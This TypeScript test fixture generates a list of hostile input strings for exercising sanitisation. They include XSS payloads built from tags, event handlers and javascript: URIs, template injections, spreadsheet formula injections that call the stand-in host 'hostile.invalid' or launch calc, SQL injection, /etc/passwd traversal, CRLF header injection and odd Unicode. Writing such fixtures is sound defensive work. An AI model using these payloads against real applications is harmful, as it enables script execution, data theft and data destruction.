import { each as list } from './hostile-words.fixture.ts';

/** CSS class and host in the hostile strings, by which a test finds their effects. */
export const hostile = { mark: 'hostile', host: 'hostile.invalid' } as const;

type Deed = (number: number) => string;

const deeds: readonly Deed[] = [
  (number) => `window.hostile=${number}`,
  (number) => `alert(${number})`,
  (number) => `fetch('//${hostile.host}/${number}')`,
];

const elements: readonly ((deed: string) => string)[] = [
  (deed) => `<script class=hostile>${deed}</script>`,
  (deed) => `<img class=hostile src=x onerror="${deed}">`,
  (deed) => `<svg class=hostile onload="${deed}">`,
  (deed) => `<svg class=hostile><animate onbegin="${deed}" attributeName=x>`,
  (deed) => `<iframe class=hostile srcdoc="<script>parent.${deed.replace('window.', '')}</script>">`,
  (deed) => `<iframe class=hostile src="javascript:${deed}">`,
  (deed) => `<body class=hostile onload="${deed}">`,
  (deed) => `<details class=hostile open ontoggle="${deed}">`,
  (deed) => `<video class=hostile><source onerror="${deed}">`,
  (deed) => `<input class=hostile autofocus onfocus="${deed}">`,
  (deed) => `<a class=hostile href="javascript:${deed}">x</a>`,
  (deed) => `<form class=hostile><button formaction="javascript:${deed}">`,
  (deed) => `<object class=hostile data="javascript:${deed}">`,
  (deed) => `<math class=hostile><a xlink:href="javascript:${deed}">x`,
  () => `<link class=hostile rel=stylesheet href=//${hostile.host}>`,
  () => `<meta class=hostile http-equiv=refresh content="0;url=//${hostile.host}">`,
  () => `<base class=hostile href=//${hostile.host}>`,
  () => `<style class=hostile>@import '//${hostile.host}';</style>`,
];
/** Prefixes that close the element around unescaped text. */
const ways = ['', '">', "'>", '</textarea>', '</title>', '-->', '</script>'];

const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', '\u0001javascript:', 'javascript&colon;', 'vbscript:', 'data:text/html,<script>'];
const addresses: readonly ((address: string) => string)[] = [(address) => address, (address) => `[x](${address})`, (address) => `![x](${address})`];

const templates: readonly ((deed: string) => string)[] = [
  (deed) => `{{constructor.constructor('${deed.replaceAll("'", '"')}')()}}`,
  (deed) => `\${${deed}}`,
  (deed) => `#{${deed}}`,
  (deed) => `<%= ${deed} %>`,
  (deed) => `{% raw %}${deed}`,
  (deed) => `[[${deed}]]`,
];
const entities: readonly ((deed: string) => string)[] = [
  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
  (deed) => `&#60;script&#62;${deed}&#60;/script&#62;`,
  (deed) => `\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
  (deed) => `%3Cscript%3E${deed}%3C/script%3E`,
  (deed) => `\uFF1Cscript\uFF1E${deed}\uFF1C/script\uFF1E`,
];

const heads = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '\u00A0=', '\uFEFF=', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
/** Spreadsheet formulas, numbered so that they stay distinct where fields trim leading blanks. */
const formulas: readonly Deed[] = [
  (number) => `1+${number}`,
  (number) => `HYPERLINK("http://${hostile.host}/${number}","x")`,
  (number) => `cmd|'/C calc'!A${number}`,
  (number) => `IMPORTXML("http://${hostile.host}/${number}";"//a")`,
];

const odd: readonly string[] = [
  ...list('\u202Eelbisrever ¦ a\u202Db\u202Ec\u2066d ¦ \u2067\u2067\u2067never closed ¦ z\u200Be\u200Cr\u200Do\u2060w\uFEFFidth'),
  '\u0627\u0644\u0639\u0631\u0628\u064A\u0629 <b class=hostile> \u05E2\u05D1\u05E8\u05D9\u05EA',
  `tower ${'o\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309'.repeat(8)}`,
  ...[
    'w'.repeat(119),
    'W'.repeat(118),
    '\uFDFD'.repeat(60),
    '\u{12219}'.repeat(50),
    '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}'.repeat(10),
  ],
  ...list('\u{E0001}tagged\u{E007F} ¦ line\u2028separator\u2029paragraph ¦ bell\u0007escape\u001B[31mred ¦ back\bspace\u007Fdelete\u0085next'),
  ...list(`Zalgo\u0489\u0489\u0489\u0489\u0489\u0489 ¦ __proto__ ¦ [object Object] ¦ null ¦ "],"hidden":true,"x":[" ¦ '; drop table events; --`),
  ...list('../../../../etc/passwd ¦ %s%n%x %00 %0d%0aSet-Cookie: hostile=1 ¦ a","b\r\n"=1+1 ¦ ends with a backslash \\'),
];

const each = <A, B>(some: readonly A[], others: readonly B[], join: (one: A, other: B, number: number) => string): string[] =>
  some.flatMap((one, row) => others.map((other, column) => join(one, other, row * others.length + column)));
const deedOf = (number: number): string => deeds[number % deeds.length]?.(number) ?? '';

/** Short texts that execute, load or compute something when they are not treated as plain text. */
export const hostileStrings: readonly string[] = [
  ...each(elements, ways, (element, way, number) => way + element(deedOf(number))),
  ...each(schemes, addresses, (scheme, address, number) => address(scheme + deedOf(number))),
  ...each(templates, [0, 1], (template, _, number) => template(deedOf(number))),
  ...each(entities, [0, 1], (entity, _, number) => entity(deedOf(number))),
  ...each(heads, formulas, (head, formula, number) => head + formula(number)),
  ...odd,
];
